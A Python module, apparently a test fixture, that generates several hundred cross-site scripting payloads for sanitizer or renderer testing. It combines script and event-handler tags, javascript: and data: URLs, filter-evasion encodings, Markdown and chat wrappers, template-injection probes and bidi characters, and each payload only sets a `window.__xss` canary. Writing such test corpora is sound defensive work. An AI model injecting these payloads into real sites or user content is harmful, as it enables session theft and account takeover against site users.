"""What people send who want a page to run something: each sets `window.__xss` if it succeeds."""

from __future__ import annotations

from itertools import product

RUN = "window.__xss=1"
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x",
    f"<math><mi xlink:href=javascript:{RUN}>x",
    f"<marquee onstart={RUN}>x",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<meta http-equiv=refresh content=0;javascript:{RUN}>",
    f"<base href=javascript:{RUN}//>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<x contenteditable onblur={RUN} tabindex=1 autofocus>",
)
BEGINS = ("", '"', "'>", "--><", "</textarea>", "</title>", "</script>", "\\")
URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://a.example/"onmouseover={RUN}//',
    f"https://a.example/'onmouseover={RUN}//",
    f"https://a.example/><img src=x onerror={RUN}>",
)
FORMS = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "{}", '[x](https://a.example "{}")')
MARKS = (
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"```<img src=x onerror={RUN}>\nx\n```",
    f"||<svg onload={RUN}>||",
    f"# <svg onload={RUN}>",
    f"> <svg onload={RUN}>",
    f"|<svg onload={RUN}>|b|\n|-|-|\n|<img src=x onerror={RUN}>|2|",
    f"@bea<svg onload={RUN}>",
    f":tada:<svg onload={RUN}>",
    f"/me <svg onload={RUN}>",
    "{{7*7}}${7*7}<%= 7*7 %>%s%n{0.__class__}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "\u202e<script>\u202d",
)

PAYLOADS = (
    *(begin + tag for begin, tag in product(BEGINS, TAGS)),
    *(form.format(url) for form, url in product(FORMS, URLS)),
    *MARKS,
)
